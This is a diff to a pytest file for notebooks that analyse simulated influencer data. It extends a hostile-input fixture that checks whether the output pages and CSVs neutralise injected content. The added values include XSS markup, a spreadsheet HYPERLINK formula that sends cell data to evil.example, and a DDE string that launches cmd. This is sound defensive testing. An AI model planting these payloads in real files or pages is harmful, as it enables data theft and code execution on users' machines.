@@ -9,6 +9,7 @@ from pathlib import Path
 
 import nbformat
 import pytest
+from csv_checks import assert_no_formula_cells
 from html_checks import assert_self_contained
 
 from inflresearch.data.synth import simulate_world
@@ -22,6 +23,7 @@ NOTEBOOKS = sorted(NOTEBOOK_DIR.glob("*.ipynb"))  # the questions' and the templ
 QUESTIONS = discover()
 COMMON = {"data", "seed", "alpha", "run_dir"}
 EVIL = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
 
 
 @pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.stem)
@@ -64,17 +66,24 @@ def test_notebook_cells_have_no_branches_or_loops(path):
 
 @pytest.fixture(scope="module")
 def hostile_world(tmp_path_factory):
-    """A small SIMULATED world whose text fields carry markup, written as CSV."""
+    """A small SIMULATED world whose text fields carry markup and spreadsheet formulas, written as
+    CSV, with a few rows to quarantine."""
     folder = tmp_path_factory.mktemp("hostile")
     world = simulate_world(seed=21, n_influencers=400, n_campaigns=40)
     inf = world.influencers.copy()
     inf.loc[:9, "bio"] = EVIL + " workout gym protein"
     inf.loc[:4, "account_id"] = [f"{EVIL}{i}" for i in range(5)]
     inf.loc[:29, "niche"] = EVIL
+    inf.loc[10:14, "account_id"] = [f"{FORMULA}{i}" for i in range(5)]
+    inf.loc[30:39, "niche"] = "+cmd|' /C calc'!A0"
+    inf.loc[40:41, ["account_id", "followers"]] = [["@SUM(1+1)", -5], ["-2+3", 0]]  # quarantined
     posts = world.posts.copy()
     posts.loc[posts.account_id == inf.account_id[5], "caption"] = EVIL
+    posts.loc[posts.account_id == inf.account_id[6], "caption"] = "@SUM(1+1)*cmd|' /C calc'!A0"
     camps = world.campaigns.copy()
     camps.loc[:3, "niche"] = EVIL
+    camps.loc[4:7, "niche"] = FORMULA
+    camps.loc[8, "channel"] = "=channel()"  # quarantined
     paths = {}
     for name, table in {"influencers": inf, "posts": posts, "campaigns": camps}.items():
         paths[name] = folder / f"{name}.csv"
@@ -102,3 +111,5 @@ def test_notebook_runs_end_to_end_with_hostile_text(question, hostile_world, tmp
     assert_self_contained(page)
     assert "<img src=x" not in page and '<script>alert("pwned")' not in page  # markup stayed text
     assert len(page.encode()) < 3_000_000
+    assert assert_no_formula_cells(run.folder) >= 2  # tables, downloads, quarantine, niches.csv
+    assert list(run.folder.glob("quarantine-*.csv")), "the hostile world has rows to quarantine"
